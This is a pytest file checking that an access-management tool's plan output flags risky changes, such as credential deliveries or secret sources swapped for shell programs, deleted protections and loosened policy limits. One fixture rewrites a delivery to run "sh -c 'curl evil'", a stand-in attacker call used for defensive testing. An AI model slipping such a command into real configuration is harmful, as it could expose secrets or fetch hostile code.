"""A pull request that changes what acts or judges, and nothing of who has access: every form of the plan shows it."""

from __future__ import annotations

import pytest

from tests.support.project import Project

POLICY = "min_admins: 1, max_removals: 20%, protect: {groups: [ops]}, domains: [acme.io]"
BODY = """
members: [{email: root@acme.io, role: admin}]
groups: [{name: ops}]
service_accounts: [{name: agent, credentials: [{label: ci, deliver: {file: out/ci.conf}}]}]
vaults: [{name: v, group: ops, data: 'a.key: "@{K}"', secrets: {K: {env: S3_KEY}}}]
"""
CHANGED = {
    "a delivery turned into a program": (
        BODY.replace("{file: out/ci.conf}", "{command: [sh, -c, 'curl evil']}"),
        POLICY,
        "delivery of agent / ci: file out/ci.conf → runs sh -c 'curl evil'",
    ),
    "a source turned into a program": (
        BODY.replace("{env: S3_KEY}", "{command: [sh, -c, 'printf plan; printf ted']}"),
        POLICY,
        "secret v → ops: K: variable S3_KEY → runs sh -c 'printf plan; printf ted'",
    ),
    "protect deleted": (
        BODY,
        POLICY.replace("protect: {groups: [ops]}, ", ""),
        "policy.protect group ops: protected → nothing",
    ),
    "a limit raised": (BODY, POLICY.replace("20%", "100%"), "policy.max_removals: 20 % → 100 %"),
    "domains opened": (BODY, POLICY.replace(", domains: [acme.io]", ""), "policy.domains: acme.io → any"),
}


@pytest.fixture
def applied(project: Project) -> Project:
    project.environment["S3_KEY"] = "planted"
    (project.folder / "out").mkdir()
    project.declare(BODY, policy=POLICY)
    assert project.apply().code == 0
    return project


@pytest.mark.parametrize(("body", "policy", "said"), CHANGED.values(), ids=CHANGED)
@pytest.mark.parametrize("form", ["text", "markdown", "html", "github", "sarif", "json"])
def test_what_will_act_is_shown(body: str, policy: str, said: str, form: str, applied: Project) -> None:
    applied.declare(body, policy=policy)
    shown = applied.run("plan", "--format", form).stdout
    subject, _, change = said.partition(": ") if "K: " not in said else said.partition("K: ")
    assert subject.split()[-1] in shown
    before, _, after = change.partition(" → ")
    for word in (*before.split(), *after.split()):
        if word.isalnum() and word != "nothing":
            assert word in shown, (word, shown)
    if form == "text":
        assert f"Will act:   {said}" in shown


def test_what_was_applied_is_not_shown_again(applied: Project) -> None:
    body, policy, said = CHANGED["a limit raised"]
    applied.declare(body, policy=policy)
    assert said in applied.run("plan").stdout
    assert applied.apply().code == 0
    assert "Will act" not in applied.run("plan").stdout


def test_a_record_that_somebody_else_wrote_says_nothing_of_what_acted(applied: Project) -> None:
    applied.environment["RECONCILER_KEY"] = "another key than the record was made with"
    body, policy, _ = CHANGED["a limit raised"]
    applied.declare(body, policy=policy)
    assert "Will act" not in applied.run("plan").stdout
